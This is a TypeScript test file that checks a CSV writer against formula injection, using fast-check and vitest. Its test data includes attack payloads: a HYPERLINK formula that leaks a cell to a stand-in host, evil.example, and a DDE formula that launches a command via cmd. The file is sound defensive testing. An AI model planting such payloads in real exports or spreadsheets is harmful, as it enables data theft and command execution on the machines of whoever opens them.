import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { writeCsv } from '../../../../../shared/forms/inbox/csv.ts';

/** Reads CSV back as RFC 4180 has it. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  const pattern = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy;
  let row: string[] = [];
  for (let match = pattern.exec(text); match; match = pattern.exec(text)) {
    row.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? '');
    if (match[3] === '\r\n') {
      rows.push(row);
      row = [];
    }
  }
  return rows;
}

const written = (...row: readonly string[]): readonly string[] => readCsv(writeCsv([row]).slice(1))[0] ?? [];

describe('CSV', () => {
  it('says that it is UTF-8, and comes back as it was', () => {
    const rows = [
      ['id', 'name'],
      ['7', 'Peña, "Ñ"\nline two; done'],
    ];
    const text = writeCsv(rows);
    expect(text.charCodeAt(0)).toBe(0xfeff);
    expect(readCsv(text.slice(1))).toEqual(rows);
  });

  it.each([
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    '+1+1',
    '-1+1',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\u200b=1+1',
    '\uff1d1+1',
    "=cmd|'/c calc'!A0",
  ])('%j is text to a spreadsheet', (formula) => {
    expect(written(formula)[0]).toMatch(/^'/);
  });

  it.each(['Rosa;=1+1;', 'Rosa; =1+1;', 'Rosa;"=1+1;', 'Rosa\n=1+1;', 'Rosa\n\n\t@SUM(A1);', '"=1+1"'])(
    '%j begins no formula where semicolons part the cells either',
    (text) => {
      // As Excel splits a line there, which knows no commas: a quote in the middle of a cell is a sign like any other.
      const cells = writeCsv([['7', text]]).split(/[;\r\n]/);
      for (const cell of cells) expect(cell).not.toMatch(/^[\s"]*[=+\-@]/);
    },
  );

  it('leaves what is no formula as it is', () => {
    const text = 'a-b@example.org; 2 + 2\nno = sign first';
    expect(written(text)).toEqual([text]);
  });

  it('holds nothing that is not seen, and no tab that could begin another cell', () => {
    expect(written('a\u001b[31mb\u0007\u202ec\td\0')).toEqual(['a[31mbc d']);
  });

  it('keeps each cell in its place whatever is in it, and never begins one with a formula', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(fc.string({ unit: 'binary' }), { minLength: 3, maxLength: 3 }), { maxLength: 5 }),
        (rows) => {
          const read = readCsv(writeCsv(rows).slice(1));
          expect(read.map(({ length }) => length)).toEqual(rows.map(() => 3));
          for (const cell of read.flat()) expect(cell).not.toMatch(/(^|[\n;])\s*[=+\-@]/);
        },
      ),
    );
  });
});
